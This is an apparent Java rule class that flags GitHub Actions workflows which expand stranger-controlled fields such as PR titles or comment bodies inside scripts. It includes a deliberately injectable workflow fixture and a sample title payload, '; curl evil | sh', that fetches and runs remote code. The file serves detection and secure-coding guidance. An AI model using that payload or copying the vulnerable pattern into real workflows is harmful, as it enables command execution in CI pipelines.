package org.assize.compliance.delivery;

import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.assize.evidence.SourceText;
import org.assize.evidence.config.ConfigurationEntry;
import org.assize.evidence.config.ConfigurationFile;
import org.assize.evidence.config.ConfigurationKind;
import org.assize.evidence.config.ConfigurationNode;
import org.assize.finding.Region;
import org.assize.rule.Inspection;
import org.assize.rule.Rule;

/** Cannot see what an output of an earlier step holds, nor what a script does with the environment. */
final class CiNoScriptInjection {

    /** Parts of an event that anybody may choose who opens a request, an issue or a comment. */
    private static final Pattern CHOSEN_BY_STRANGERS = Pattern.compile("github\\.head_ref"
            + "|github\\.event\\.(?:issue|pull_request|discussion|workflow_run\\.pull_requests\\.[^.\\s}]*)\\.(?:title|body)"
            + "|github\\.event\\.pull_request\\.head\\.(?:ref|label|repo\\.default_branch)"
            + "|github\\.event\\.(?:comment|review|review_comment|discussion_comment)\\.body"
            + "|github\\.event\\.pages\\.[^.\\s}]*\\.page_name"
            + "|github\\.event\\.(?:head_commit|commits\\.[^.\\s}]*|commits\\[\\d+]|workflow_run\\.head_commit)\\."
            + "(?:message|author\\.(?:email|name))"
            + "|github\\.event\\.workflow_run\\.(?:head_branch|head_repository\\.description|display_title)");

    private static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{.*?}}", Pattern.DOTALL);

    static final Rule RULE = Rule.on(ConfigurationKind.CONFIGURATION, "compliance/ci-no-script-injection")
            .states("Text that strangers choose is not expanded inside a script of a workflow")
            .because("the expression is replaced before the shell reads the script, so that a title like"
                    + " \"; curl evil | sh\" is a command")
            .remedy("Put the expression into an environment variable of the step (env: TITLE: ${{ ... }}) and use"
                    + " \"$TITLE\" in the script")
            .implementing("owasp-asvs-5.0/1.2.5", "cwe/78", "cwe/94", "pci-dss-4.0.1/6.2.4", "nist-ssdf-1.1/PO.3.2")
            .cannotSee("Outputs of steps and inputs of workflows are not followed back to where they come from.")
            .violating(Map.of(".github/workflows/label.yml", """
                    on: pull_request_target
                    jobs:
                      label:
                        runs-on: ubuntu-24.04
                        steps:
                          - run: echo "Title «${{ github.event.pull_request.title }}»"
                          - name: several lines
                            run: |
                              git fetch origin
                              git checkout «${{ github.head_ref || github.ref_name }}»
                          - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                            with:
                              script: console.log("«${{ github.event.comment.body }}»")
                    """))
            .conforming(Map.of(".github/workflows/label.yml", """
                    on: pull_request_target
                    jobs:
                      label:
                        if: startsWith(github.event.pull_request.title, 'fix')
                        runs-on: ubuntu-24.04
                        steps:
                          - run: echo "Title $TITLE in ${{ github.repository }} ${{ github.event.pull_request.number }}"
                            env:
                              TITLE: ${{ github.event.pull_request.title }}
                    """))
            .applyingTo(Workflows::isOne)
            .inspecting(ConfigurationEntry.class, CiNoScriptInjection::inspect)
            .build();

    private CiNoScriptInjection() {}

    private static void inspect(ConfigurationEntry entry, Inspection<ConfigurationFile, ConfigurationNode> report) {
        if (!entry.key().equals("run") && !entry.key().equals("script") || !entry.isScalar()) {
            return;
        }
        SourceText text = report.file().text();
        Region value = entry.valueRegion();
        int offset = text.offset(value.startLine(), value.startColumn());
        Matcher expression = EXPRESSION.matcher(text.slice(value));
        while (expression.find()) {
            Matcher chosen = CHOSEN_BY_STRANGERS.matcher(expression.group());
            if (chosen.find()) {
                report.breach(entry, "A stranger's " + chosen.group() + " becomes part of the script")
                        .key(chosen.group())
                        .at(text.region(offset + expression.start(), offset + expression.end()));
            }
        }
    }
}
